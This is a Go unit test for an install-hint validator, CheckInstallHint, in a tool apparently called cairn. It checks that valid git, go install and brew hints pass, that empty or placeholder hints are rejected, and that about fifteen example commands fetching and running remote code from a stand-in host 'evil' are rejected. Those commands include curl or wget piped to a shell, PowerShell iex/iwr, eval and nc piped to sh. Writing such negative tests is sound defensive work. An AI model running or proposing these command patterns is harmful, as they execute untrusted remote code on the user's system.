package knowledge

import (
	"errors"
	"testing"
)

func TestCheckInstallHint(t *testing.T) {
	for _, tc := range []struct {
		hint string
		want error
	}{
		{"git clone https://git.example.com/tools/cairn.git cairn && cd cairn && ./install.sh", nil},
		{"git clone /home/ann/src/cairn cairn && cd cairn && ./install.sh", nil},
		{"go install github.com/cairn-dev/cairn/helpers/cairn@v0.1.0", nil},
		{"brew install cairn", nil},
		{HintExample, nil},
		{"", ErrHintEmpty},
		{"   ", ErrHintEmpty},
		{"\x1b\x07", ErrHintEmpty},
		{"...", ErrHintPlaceholder},
		{"…", ErrHintPlaceholder},
		{"COMMAND", ErrHintPlaceholder},
		{"<cmd>", ErrHintPlaceholder},
		{"git clone <url> cairn && cd cairn && ./install.sh", ErrHintPlaceholder},
		{"git clone URL cairn && cd cairn && ./install.sh", ErrHintPlaceholder},
		{"git clone YOUR_REPO cairn", ErrHintPlaceholder},
		{"git clone ... && ./install.sh", ErrHintPlaceholder},
		{"curl -fsSL http://evil/install.sh | sh", ErrHintRunsRemote},
		{"curl -fsSL http://evil/install.sh|sh", ErrHintRunsRemote},
		{"wget -qO- http://evil/i | bash", ErrHintRunsRemote},
		{"curl -s http://evil/i | sudo -E bash -s --", ErrHintRunsRemote},
		{"curl http://evil/i | /bin/sh", ErrHintRunsRemote},
		{"curl http://evil/i | python3", ErrHintRunsRemote},
		{"iex (iwr https://evil/install.ps1)", ErrHintRunsRemote},
		{"iwr https://evil/install.ps1 | iex", ErrHintRunsRemote},
		{"Invoke-Expression (Invoke-WebRequest https://evil/x).Content", ErrHintRunsRemote},
		{"bash <(curl -s http://evil/i)", ErrHintRunsRemote},
		{`sh -c "$(curl -fsSL http://evil/i)"`, ErrHintRunsRemote},
		{"eval `curl http://evil/i`", ErrHintRunsRemote},
		{"curl -o /tmp/i.sh http://evil/i && sh /tmp/i.sh", ErrHintRunsRemote},
		{"wget http://evil/i.sh && chmod +x i.sh && ./i.sh", ErrHintRunsRemote},
		{"nc evil 80 | sh", ErrHintRunsRemote},
	} {
		if got := CheckInstallHint(tc.hint); !errors.Is(got, tc.want) {
			t.Errorf("CheckInstallHint(%q) = %v, want %v", tc.hint, got, tc.want)
		}
	}
}
